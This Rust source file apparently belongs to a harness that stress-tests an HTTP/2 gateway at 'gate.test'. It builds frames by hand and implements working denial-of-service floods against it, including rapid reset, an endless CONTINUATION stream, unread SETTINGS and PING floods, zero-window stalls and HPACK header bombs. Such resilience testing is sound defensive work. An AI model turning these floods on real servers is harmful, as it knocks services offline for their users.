//! Floods of HTTP/2 frames, written by hand: <https://www.rfc-editor.org/rfc/rfc9113#section-6>.
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::time::timeout;
use tokio_rustls::client::TlsStream;

use super::arena::Target;
use super::{Flood, Tally};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const ACK: u8 = 1;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = [0, 0, 0, 8];

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = u32::try_from(payload.len()).unwrap().to_be_bytes()[1..].to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

/// Header lines without compression: <https://www.rfc-editor.org/rfc/rfc7541#section-6.2.2>.
fn literal(name: &str, value: &str) -> Vec<u8> {
    let mut line = vec![0];
    for text in [name, value] {
        let mut length = text.len();
        if length < 127 {
            line.push(length as u8);
        } else {
            line.push(127);
            length -= 127;
            while length >= 128 {
                line.push((length % 128) as u8 | 128);
                length /= 128;
            }
            line.push(length as u8);
        }
        line.extend_from_slice(text.as_bytes());
    }
    line
}

fn request(more: &[(&str, &str)]) -> Vec<u8> {
    let mut block = vec![0x83, 0x87]; // :method POST, :scheme https
    for (name, value) in [(":path", "/webhooks/github"), (":authority", "gate.test")]
        .iter()
        .chain(more)
    {
        block.extend(literal(name, value));
    }
    block
}

/// A connection with its preface sent.
async fn open(
    target: &Target,
    number: usize,
    settings: &[(u16, u32)],
) -> std::io::Result<TlsStream<TcpStream>> {
    let mut stream = target.tls(number, true).await?;
    let mut payload = Vec::new();
    for (name, value) in settings {
        payload.extend_from_slice(&name.to_be_bytes());
        payload.extend_from_slice(&value.to_be_bytes());
    }
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(SETTINGS, 0, 0, &payload)).await?;
    stream.flush().await?;
    // until the gate has widened the connection's window, a large flood would be its own end
    loop {
        let mut head = [0; 9];
        stream.read_exact(&mut head).await?;
        let mut payload = vec![0; u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize];
        stream.read_exact(&mut payload).await?;
        if head[3] == WINDOW_UPDATE {
            break;
        }
    }
    stream.write_all(&frame(SETTINGS, ACK, 0, &[])).await?;
    stream.flush().await?;
    Ok(stream)
}

/// How a connection ended, while frames were written to it.
enum End {
    Goaway(u32),
    Closed,
    Open,
}

impl std::fmt::Display for End {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Self::Goaway(0) => write!(f, "GOAWAY"),
            Self::Goaway(1) => write!(f, "GOAWAY protocol error"),
            Self::Goaway(11) => write!(f, "GOAWAY enhance your calm"),
            Self::Goaway(code) => write!(f, "GOAWAY {code}"),
            Self::Closed => write!(f, "closed"),
            Self::Open => write!(f, "open at the end"),
        }
    }
}

/// Reads frames until the connection ends; counts answers and resets.
async fn watch(
    reader: &mut (impl tokio::io::AsyncRead + Unpin),
    answered: &mut usize,
    reset: &mut usize,
) -> End {
    let mut payload = Vec::new();
    loop {
        let mut head = [0; 9];
        if reader.read_exact(&mut head).await.is_err() {
            return End::Closed;
        }
        let length = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
        payload.resize(length, 0);
        if reader.read_exact(&mut payload).await.is_err() {
            return End::Closed;
        }
        match head[3] {
            HEADERS => *answered += 1,
            RST_STREAM => *reset += 1,
            GOAWAY if length >= 8 => {
                return End::Goaway(u32::from_be_bytes([
                    payload[4], payload[5], payload[6], payload[7],
                ]));
            }
            _ => {}
        }
    }
}

/// Writes what `next` makes, again and again on new connections, until `limit` is over. Nothing is read of what comes if `deaf`.
#[derive(Clone, Copy)]
struct Storm {
    limit: Duration,
    deaf: bool,
    settings: &'static [(u16, u32)],
}

fn storm(
    name: &'static str,
    size: &str,
    connections: usize,
    storm: Storm,
    next: fn(u32) -> Vec<u8>,
) -> Flood {
    let run = move |target: Target| -> super::Running {
        Box::pin(async move {
            let mut attackers = tokio::task::JoinSet::new();
            for number in 0..connections {
                attackers.spawn(rage(target.clone(), number, storm, next));
            }
            let mut all = Tally::new();
            while let Some(tally) = attackers.join_next().await {
                for (what, count) in tally.expect("an attacker") {
                    *all.entry(what).or_default() += count;
                }
            }
            all
        })
    };
    Flood {
        name,
        size: format!(
            "{connections} connections for {} s, {size}",
            storm.limit.as_secs()
        ),
        run: Box::new(run),
    }
}

async fn rage(target: Target, number: usize, storm: Storm, next: fn(u32) -> Vec<u8>) -> Tally {
    let (mut tally, begun) = (Tally::new(), Instant::now());
    let mut count = |what: String, times: usize| {
        if times > 0 {
            *tally.entry(what).or_default() += times;
        }
    };
    while begun.elapsed() < storm.limit {
        let Ok(stream) = open(&target, number, storm.settings).await else {
            count("not let in".to_owned(), 1);
            tokio::time::sleep(Duration::from_millis(20)).await;
            continue;
        };
        let (mut reader, mut writer) = tokio::io::split(stream);
        let (mut answered, mut reset) = (0, 0);
        let writing = async {
            let mut round = 0;
            loop {
                let piece = next(round);
                round += 1;
                if piece.is_empty() {
                    std::future::pending::<()>().await;
                }
                if writer.write_all(&piece).await.is_err() || writer.flush().await.is_err() {
                    if storm.deaf {
                        return End::Closed;
                    }
                    // reads the frames that the gate sent before it closed
                    std::future::pending::<()>().await;
                }
                // two cores for attackers, gate and honest sender: leave some to the others
                tokio::task::yield_now().await;
            }
        };
        let reading = async {
            if storm.deaf {
                std::future::pending::<()>().await;
            }
            watch(&mut reader, &mut answered, &mut reset).await
        };
        let left = storm.limit.saturating_sub(begun.elapsed());
        let end = timeout(left, async {
            tokio::select! { end = reading => end, end = writing => end }
        })
        .await
        .unwrap_or(End::Open);
        count(end.to_string(), 1);
        count("streams answered".to_owned(), answered);
        count("streams reset by the gate".to_owned(), reset);
    }
    tally
}

fn stream_id(number: u32) -> u32 {
    2 * number + 1
}

/// Streams that are begun and cancelled.
pub fn rapid_reset(connections: usize, limit: Duration) -> Flood {
    storm(
        "h2 rapid reset",
        "HEADERS and RST_STREAM",
        connections,
        Storm {
            limit,
            deaf: false,
            settings: &[],
        },
        |round| {
            let mut batch = Vec::new();
            for number in round * 20..round * 20 + 20 {
                batch.extend(frame(
                    HEADERS,
                    END_HEADERS | END_STREAM,
                    stream_id(number),
                    &request(&[]),
                ));
                batch.extend(frame(RST_STREAM, 0, stream_id(number), &CANCEL));
            }
            batch
        },
    )
}

/// A header list without an end.
pub fn continuation(connections: usize, limit: Duration) -> Flood {
    storm(
        "h2 CONTINUATION",
        "16 KiB frames without end",
        connections,
        Storm {
            limit,
            deaf: false,
            settings: &[],
        },
        |round| {
            let line = literal("x", &"y".repeat(16_000));
            if round == 0 {
                frame(HEADERS, 0, 1, &request(&[]))
            } else {
                frame(CONTINUATION, 0, 1, &line)
            }
        },
    )
}

/// Settings that all want an acknowledgement, which nobody reads.
pub fn settings(connections: usize, limit: Duration) -> Flood {
    storm(
        "h2 SETTINGS",
        "acknowledgements unread",
        connections,
        Storm {
            limit,
            deaf: true,
            settings: &[],
        },
        |_| frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0xff, 0xff]).repeat(500),
    )
}

/// Pings that all want an answer, which nobody reads.
pub fn pings(connections: usize, limit: Duration) -> Flood {
    storm(
        "h2 PING",
        "answers unread",
        connections,
        Storm {
            limit,
            deaf: true,
            settings: &[],
        },
        |_| frame(PING, 0, 0, &[7; 8]).repeat(500),
    )
}

/// Frames that carry nothing and cost their reader something.
pub fn empty_frames(connections: usize, limit: Duration) -> Flood {
    storm(
        "h2 empty frames",
        "empty DATA, WINDOW_UPDATE of 1",
        connections,
        Storm {
            limit,
            deaf: false,
            settings: &[],
        },
        |round| {
            let mut batch = if round == 0 {
                frame(HEADERS, END_HEADERS, 1, &request(&[]))
            } else {
                Vec::new()
            };
            batch.extend(frame(DATA, 0, 1, b"").repeat(250));
            batch.extend(frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]).repeat(250));
            batch
        },
    )
}

/// As many streams as are let in, each with a large head and the beginning of a large body.
pub fn stalled_streams(connections: usize, limit: Duration) -> Flood {
    storm(
        "h2 stalled bodies",
        "32 streams each: 8 KiB head, 16 KiB body, then nothing",
        connections,
        Storm {
            limit,
            deaf: false,
            settings: &[],
        },
        |round| {
            if round >= 32 {
                return Vec::new();
            }
            let block = request(&[("content-length", "26214400"), ("x", &"y".repeat(8000))]);
            let mut batch = frame(HEADERS, END_HEADERS, stream_id(round), &block);
            batch.extend(frame(DATA, 0, stream_id(round), &[b'x'; 16_000]));
            batch
        },
    )
}

/// Requests whose answers have no window to go into.
pub fn zero_windows(connections: usize, limit: Duration) -> Flood {
    storm(
        "h2 zero windows",
        "32 streams each, 8 KiB heads, answers may not be sent",
        connections,
        Storm {
            limit,
            deaf: false,
            settings: &[(4, 0)],
        },
        |round| {
            if round >= 32 {
                return Vec::new();
            }
            frame(
                HEADERS,
                END_HEADERS | END_STREAM,
                stream_id(round),
                &request(&[("x", &"y".repeat(8000))]),
            )
        },
    )
}

/// Large pages of a pass route, whose answers have no window to go into.
pub fn unread_pages(connections: usize, limit: Duration, brief: bool) -> Flood {
    fn page(round: u32, path: &str, most: u32) -> Vec<u8> {
        if round >= most {
            return Vec::new();
        }
        let mut block = vec![0x82, 0x87]; // :method GET, :scheme https
        block.extend(literal(":path", path));
        block.extend(literal(":authority", "gate.test"));
        frame(HEADERS, END_HEADERS | END_STREAM, stream_id(round), &block)
    }
    let storm_of = Storm {
        limit,
        deaf: false,
        settings: &[(4, 0)],
    };
    let size = "8 MiB a page, answers may not be sent";
    if brief {
        return storm("h2 unread pages", size, connections, storm_of, |round| {
            page(round, "/brief", 2)
        });
    }
    storm("h2 unread pages", size, connections, storm_of, |round| {
        page(round, "/page", 32)
    })
}

/// One long line, put into the compressor's table once and named again and again: <https://www.rfc-editor.org/rfc/rfc7541#section-7.3>.
pub fn hpack_bombs(connections: usize, limit: Duration) -> Flood {
    storm(
        "h2 header bombs",
        "a line of 4,000 bytes named 10,000 times a head",
        connections,
        Storm {
            limit,
            deaf: false,
            settings: &[],
        },
        |round| {
            let mut block = request(&[]);
            if round == 0 {
                let mut line = literal("x", &"y".repeat(3950));
                line[0] = 0x40;
                block.extend(line);
            }
            block.extend([0xbe; 10_000]);
            frame(HEADERS, END_HEADERS | END_STREAM, stream_id(round), &block)
        },
    )
}

/// Connections that say nothing after the preface, and those that do not even read.
pub fn silent(connections: usize) -> Flood {
    let run = move |target: Target| -> super::Running {
        Box::pin(super::each(connections, move |number| {
            let target = target.clone();
            async move {
                let Ok(mut stream) = open(&target, number, &[]).await else {
                    return "not let in".to_owned();
                };
                let begun = Instant::now();
                match timeout(Duration::from_secs(90), watch(&mut stream, &mut 0, &mut 0)).await {
                    Ok(end) => format!("{end} after {} s", begun.elapsed().as_secs() / 5 * 5),
                    Err(_) => "left open".to_owned(),
                }
            }
        }))
    };
    Flood {
        name: "h2 silence",
        size: format!("{connections} connections, nothing after the preface"),
        run: Box::new(run),
    }
}
